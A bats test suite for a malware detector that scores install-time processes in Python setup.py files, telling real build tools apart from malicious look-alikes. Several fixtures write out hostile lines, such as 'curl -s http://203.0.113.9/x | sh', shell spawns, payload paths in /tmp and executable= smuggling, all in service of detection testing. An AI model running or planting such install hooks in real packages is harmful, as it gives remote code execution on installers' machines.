#!/usr/bin/env bats
# 47b-build-commands.bats: install-time processes that are build logic (issue 11, class 1) —
# build tools the user's configuration picks, wrappers followed to their callers, a bundled
# ./configure that GNU Autoconf generated — each with the malicious variant that still
# weighs in full.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg; }

# hits DIR DETECTION: "path line score" of that detection's hits for the directory.
hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | "\(.path) \(.line) \(.score)"'
}

# process_hits DIR: "line score message" of the ProcessExecution/ShellCommand hits.
process_hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r 'select(.type == "hit" and (.detection == "ProcessExecution" or .detection == "ShellCommand")) | "\(.line) \(.score) \(.message)"'
}

# ---- a program found on the user's PATH, or next to one ----

@test "a build tool beside a program shutil.which() found is a build tool (cx_Freeze's dlltool)" {
	cat > pkg/setup.py <<'PY'
from pathlib import Path
from shutil import which
from subprocess import check_call
def delay_load(build_temp, name):
    gendef_exe = Path(which("gendef"))
    def_name = Path(build_temp) / f"{name}.def"
    dlltool_exe = gendef_exe.parent / "dlltool.exe"
    dlltool = [dlltool_exe, "-d", def_name, "-D", f"{name}.dll"]
    check_call(dlltool + ["-y", Path(build_temp) / "lib.a"])
delay_load("build", "python3")
PY
	run process_hits pkg
	assert_output "9 10 subprocess.check_call() starts a process at install time: the build tool dlltool.exe (reached through delay_load())"
}

@test "look-alike: a program beside the package's own file, or a non-build program beside a PATH one, weighs in full" {
	cat > pkg/setup.py <<'PY'
from pathlib import Path
from shutil import which
from subprocess import check_call
here = Path(__file__).parent
check_call([here / "bin" / "dlltool.exe", "-d", "x.def"])
check_call([Path(which("gendef")).parent / "curl.exe", "-o", "x.exe"])
check_call([Path(which("gendef")).parent / "dlltool.exe", "-d", "http://203.0.113.9/x.def"])
PY
	run process_hits pkg
	assert_output "$(printf '%s\n' "5 80 subprocess.check_call() starts a process at install time" \
		"6 80 subprocess.check_call() starts a process at install time" \
		"7 80 subprocess.check_call() starts a process at install time")"
}

# ---- a wrapper whose *args are bound at every call to a build command (gssapi) ----

@test "a *args wrapper called only with build commands is a build tool, the program from a build_tool_env variable" {
	cat > pkg/setup.py <<'PY'
import os, shlex, subprocess
def get_output(*args, **kwargs):
    res = subprocess.check_output(*args, shell=True, **kwargs)
    return res.decode("utf-8").strip()
kc = "krb5-config"
kc_env = "GSSAPI_KRB5CONFIG"
if kc_env in os.environ:
    kc = os.environ[kc_env]
link_args = shlex.split(get_output(f"{kc} --libs gssapi"))
compile_args = shlex.split(get_output(f"{kc} --cflags gssapi"))
PY
	run process_hits pkg
	assert_output "3 10 subprocess.check_output() starts a process at install time: the build tool \$GSSAPI_KRB5CONFIG (reached through get_output())"
}

@test "look-alike: the same wrapper handed a download-and-run, executable= or a spread weighs in full" {
	for call in 'get_output("curl -s http://203.0.113.9/x | sh")' \
		    'get_output(f"{kc} --libs", executable="/tmp/x")' \
		    'get_output(*cmds)' 'get_output(args="sh -c id")'; do
		cat > pkg/setup.py <<PY
import os, subprocess
def get_output(*args, **kwargs):
    return subprocess.check_output(*args, shell=True, **kwargs)
kc = os.environ.get("GSSAPI_KRB5CONFIG", "krb5-config")
cmds = ["id"]
get_output(f"{kc} --cflags gssapi")
$call
PY
		run process_hits pkg
		assert_output "3 80 subprocess.check_output() starts a process at install time (reached through get_output())"
	done
}

@test "look-alike: a program from a variable the file sets itself, or from SHELL, weighs in full" {
	cat > pkg/setup.py <<'PY'
import os, subprocess
os.environ["KRB5CONFIG"] = "/tmp/.x/payload"
subprocess.check_output([os.environ["KRB5CONFIG"], "--libs"])
subprocess.check_output([os.environ["SHELL"], "-c", "id"])
subprocess.check_output([os.environ.get("APXS"), "-q", "INCLUDEDIR"])
PY
	run process_hits pkg
	assert_output "$(printf '%s\n' "3 80 subprocess.check_output() starts a process at install time" \
		"4 80 subprocess.check_output() starts a process at install time" \
		"5 10 subprocess.check_output() starts a process at install time: the build tool \$APXS")"
}

@test "an env-picked build tool with a URL argument, or decoded data as its argument, still weighs in full" {
	cat > pkg/setup.py <<'PY'
import base64, os, subprocess
subprocess.check_output([os.environ["APXS"], "-q", "http://203.0.113.9/x"])
subprocess.check_output([os.environ["APXS"], "-q", base64.b64decode("aWQ=")])
PY
	run process_hits pkg
	assert_output "$(printf '%s\n' "2 80 subprocess.check_output() starts a process at install time" \
		"3 80 subprocess.check_output() starts a process at install time")"
}

@test "a build tool in a directory of the system's programs counts; one in /tmp or the package does not" {
	cat > pkg/setup.py <<'PY'
import subprocess
subprocess.check_output(["/usr/local/bin/krb5-config", "--libs", "gssapi"])
subprocess.check_output(["/tmp/krb5-config", "--libs", "gssapi"])
subprocess.check_output(["vendor/bin/krb5-config", "--libs", "gssapi"])
subprocess.check_output(["/usr/bin/curl", "-o", "x"])
PY
	run process_hits pkg
	assert_output "$(printf '%s\n' "2 10 subprocess.check_output() starts a process at install time: the build tool /usr/local/bin/krb5-config" \
		"3 80 subprocess.check_output() starts a process at install time" \
		"4 80 subprocess.check_output() starts a process at install time" \
		"5 80 subprocess.check_output() starts a process at install time")"
}

@test "a **kwargs spread passes the callers' executable= on: not a build" {
	cat > pkg/setup.py <<'PY'
import subprocess
def run(cmd, **kw):
    subprocess.check_call(cmd, **kw)
run(["make", "all"])
run(["make", "install"], executable="/tmp/x")
PY
	run process_hits pkg
	assert_line "3 80 subprocess.check_call() starts a process at install time (reached through run())"
	refute_line --partial "3 10"
}

# ---- a bundled ./configure (pysam's htslib) ----

# configure_pkg: setup.py running ./configure through a wrapper, as pysam does.
configure_pkg() {
	mkdir -p pkg/htslib
	cat > pkg/setup.py <<'PY'
import os, subprocess
def run_configure(option):
    return subprocess.call(" ".join(("./configure", "--disable-ref-cache", option)), shell=True)
os.chdir("htslib")
run_configure("--enable-libcurl")
PY
}

@test "./configure that GNU Autoconf generated is a build tool" {
	configure_pkg
	printf '#! /bin/sh\n# Guess values for system-dependent variables and create Makefiles.\n# Generated by GNU Autoconf 2.71 for HTSlib 1.21.\nexit 0\n' > pkg/htslib/configure
	run process_hits pkg
	assert_output "3 10 subprocess.call() starts a process at install time: the build tool ./configure (reached through run_configure())"
}

@test "look-alike: ./configure the package lacks, or that Autoconf did not generate, weighs in full" {
	configure_pkg
	run process_hits pkg
	assert_line "3 80 subprocess.call() starts a process at install time: ./configure, a script GNU Autoconf did not generate (or that the package lacks) (reached through run_configure())"
	printf '#! /bin/sh\n# Generated by GNU Autoconf 2.71.\nexit 0\n' > pkg/htslib/configure
	printf '#!/bin/sh\n./configure "$@"\n' > pkg/configure	# a second script, not Autoconf's
	run process_hits pkg
	assert_line --partial "3 80 subprocess.call() starts a process at install time: ./configure, a script GNU Autoconf did not generate"
}

@test "look-alike: an 'Autoconf' configure that downloads and runs code is found in the script at install time" {
	configure_pkg
	printf '#! /bin/sh\n# Generated by GNU Autoconf 2.71.\ncurl -s http://203.0.113.9/x | sh\n' > pkg/htslib/configure
	run hits pkg DownloadAndRun
	assert_output "htslib/configure 3 100"
}

@test "./configure with shell text a build does not write (a pipe) is no build tool" {
	mkdir -p pkg
	printf '#! /bin/sh\n# Generated by GNU Autoconf 2.71.\nexit 0\n' > pkg/configure
	cat > pkg/setup.py <<'PY'
import subprocess
subprocess.call(" ".join(("./configure", "--x", "| sh")), shell=True)
PY
	run process_hits pkg
	assert_output "2 80 subprocess.call() starts a process at install time"
}

@test "options written out for a **spread (apsw's skw) keep a build tool; options holding executable= do not" {
	cat > pkg/setup.py <<'PY'
import subprocess
skw = {"text": True, "capture_output": True}
subprocess.run(["pkg-config", "--cflags", "icu-uc"], **skw)
bad = {"text": True, "executable": "/tmp/x"}
subprocess.run(["pkg-config", "--libs", "icu-uc"], **bad)
subprocess.run(["pkg-config", "--libs", "icu-uc"], **dict(executable="/tmp/x"))
PY
	run process_hits pkg
	assert_output "$(printf '%s\n' "3 10 subprocess.run() starts a process at install time: the build tool pkg-config" \
		"5 80 subprocess.run() starts a process at install time" \
		"6 80 subprocess.run() starts a process at install time")"
}

@test "a wrapper called with ./configure and with make is judged as ./configure; a file analysed alone never trusts it" {
	configure_pkg
	printf 'run_configure("--x")\n' >> pkg/setup.py
	cat >> pkg/setup.py <<'PY'
def run(cmd):
    subprocess.check_call(cmd)
run(["make"])
run(["./configure"])
PY
	run process_hits pkg
	assert_line "8 80 subprocess.check_call() starts a process at install time: ./configure, a script GNU Autoconf did not generate (or that the package lacks) (reached through run())"
	printf 'import subprocess\nsubprocess.call(["./configure"])\n' > alone.py
	run bash -c "jq -nc --rawfile c alone.py '{type:\"file\",v:1,artifact:\"a\",id:\"f\",path:\"setup.py\",kind:\"python\",content:\$c,content_encoding:\"utf-8\"}' | aura-parse | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\") | \"\(.line) \(.score)\"'"
	assert_output "2 80"
}

@test "look-alike: ./configure run in a directory the code computes (a fetched tree, xmlsec) weighs in full even beside an Autoconf script" {
	mkdir -p pkg/zlib
	printf '#! /bin/sh\n# Generated by GNU Autoconf 2.71.\nexit 0\n' > pkg/zlib/configure
	cat > pkg/setup.py <<'PY'
import subprocess
from pathlib import Path
def build(zlib_dir):
    subprocess.check_call(["./configure", "--prefix=/usr"], cwd="zlib")
    subprocess.check_call(["./configure", "--prefix=/usr"], cwd=str(zlib_dir))
build(Path("build") / "zlib-1.3")
PY
	run process_hits pkg
	assert_output "$(printf '%s\n' "4 10 subprocess.check_call() starts a process at install time: the build tool ./configure (reached through build())" \
		"5 80 subprocess.check_call() starts a process at install time (reached through build())")"
}
